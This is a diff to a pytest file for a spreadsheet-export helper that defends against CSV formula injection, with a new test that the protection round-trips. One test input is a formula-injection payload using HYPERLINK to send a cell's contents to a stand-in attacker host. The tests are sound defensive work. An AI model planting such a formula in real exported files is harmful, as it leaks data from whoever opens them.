@@ -2,18 +2,27 @@ import io
 
 import pytest
 
-from portal.spreadsheets import safe_cell, safe_csv_writer
+from portal.spreadsheets import plain_cell, safe_cell, safe_csv_writer
 
 
 @pytest.mark.parametrize(
     "text",
-    ['=HYPERLINK("https://evil.example/?d="&B2,"Klik")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"],
+    [
+        '=HYPERLINK("https://evil.example/?d="&B2,"Klik")',
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+    ],
 )
 def test_text_starting_like_a_formula_is_prefixed(text):
     assert safe_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", [3.5, 12, None, "-6.8891", "+62", "-6,8891", "Jenggot", "", "a=b"])
+@pytest.mark.parametrize(
+    "value", [3.5, 12, None, "-6.8891", "+62", "-6,8891", "Jenggot", "", "a=b"]
+)
 def test_numbers_and_plain_text_are_unchanged(value):
     assert safe_cell(value) == value
 
@@ -22,3 +31,8 @@ def test_csv_writer_writes_formulas_as_text():
     stream = io.StringIO()
     safe_csv_writer(stream, lineterminator="\n").writerow(["=1+1", 2, "Kauman"])
     assert stream.getvalue() == "'=1+1,2,Kauman\n"
+
+
+@pytest.mark.parametrize("text", ["=1+1", "- Skor 1: belum ada", "@juri", "Jenggot", "'quoted'"])
+def test_plain_cell_gives_back_what_safe_cell_protected(text):
+    assert plain_cell(safe_cell(text)) == text
